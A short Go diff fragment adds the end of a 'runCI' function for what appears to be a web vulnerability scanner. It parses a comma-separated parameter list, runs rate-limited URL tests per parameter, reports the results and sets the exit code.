+	session := NewSession(tester, requestsPerSecond, failOn)
+	defer session.Stop()
+
+	var params []string
+	for _, p := range strings.Split(paramsCSV, ",") {
+		if p = strings.TrimSpace(p); p != "" {
+			params = append(params, p)
+		}
+	}
+	if len(params) == 0 {
+		fmt.Fprintln(os.Stderr, "runCI: -params must name at least one parameter")
+		os.Exit(2)
+	}
+
+	var results []VulnerabilityResult
+paramLoop:
+	for _, param := range params {
+		select {
+		case <-session.Done():
+			break paramLoop
+		default:
+			results = append(results, tester.TestURL(targetURL, param)...)
+		}
+	}
+
+	if err := reporter.Report(results); err != nil {
+		fmt.Fprintln(os.Stderr, err)
+		os.Exit(2)
+	}
+
+	os.Exit(session.ExitCode(results))
+}